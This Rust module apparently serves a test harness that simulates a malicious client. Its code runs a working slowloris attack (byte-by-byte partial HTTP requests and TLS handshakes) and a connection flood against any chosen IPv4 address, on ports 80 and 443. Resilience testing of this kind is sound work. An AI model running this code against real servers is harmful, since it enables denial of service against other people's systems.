//! Somebody who means ill: connections from one address, by the hundred and slow, or by the thousand.

use crate::failure::Failure;
use clap::ValueEnum;
use std::{
    net::{Ipv4Addr, SocketAddr},
    time::Duration,
};
use tokio::{
    io::AsyncWriteExt,
    net::{TcpSocket, TcpStream},
    time::{Instant, sleep, timeout},
};

/// What the nuisance does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Sends a request a byte a second.
    Slow,
    /// Only opens.
    Flood,
}

/// How many connections were opened, and how many were refused or not answered.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Annoyed {
    /// Opened.
    pub opened: u64,
    /// Turned away.
    pub refused: u64,
}

/// Does it for some time.
pub async fn annoy(
    kind: Kind,
    to: Ipv4Addr,
    from: Option<Ipv4Addr>,
    connections: usize,
    length: Duration,
) -> Result<Annoyed, Failure> {
    let until = Instant::now() + length;
    let mut held = tokio::task::JoinSet::new();
    let mut annoyed = Annoyed::default();
    for number in 0..connections {
        // Both doors: the plain one reads slow requests, the other one slow handshakes.
        let port = if number % 2 == 0 { 443 } else { 80 };
        held.spawn(async move {
            let Ok(stream) = open(SocketAddr::from((to, port)), from).await else { return false };
            match kind {
                Kind::Slow => drip(stream, port, until).await,
                Kind::Flood => tokio::time::sleep_until(until).await,
            }
            true
        });
        if kind == Kind::Flood && number % 100 == 99 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    while let Some(opened) = held.join_next().await {
        if opened.unwrap_or_default() {
            annoyed.opened += 1;
        } else {
            annoyed.refused += 1;
        }
    }
    Ok(annoyed)
}

async fn open(to: SocketAddr, from: Option<Ipv4Addr>) -> Result<TcpStream, Failure> {
    let socket = TcpSocket::new_v4().map_err(Failure::system("a socket"))?;
    if let Some(from) = from {
        socket.bind(SocketAddr::from((from, 0))).map_err(Failure::system(from))?;
    }
    let stream = timeout(Duration::from_secs(5), socket.connect(to)).await;
    stream.map_err(|_| Failure::wrong(to, "does not answer"))?.map_err(Failure::system(to))
}

/// A byte a second, of what the beginning of a request or of a handshake looks like.
async fn drip(mut stream: TcpStream, port: u16, until: Instant) {
    let text: &[u8] =
        if port == 80 { b"GET / HTTP/1.1\r\nHost: toast.test\r\nX-Slow: " } else { &[22, 3, 1, 2, 0, 1, 0, 1] };
    let mut at = 0;
    while Instant::now() < until {
        let byte = text.get(at).copied().unwrap_or(b'a');
        if stream.write_all(&[byte]).await.is_err() {
            return;
        }
        at += 1;
        sleep(Duration::from_secs(1)).await;
    }
}
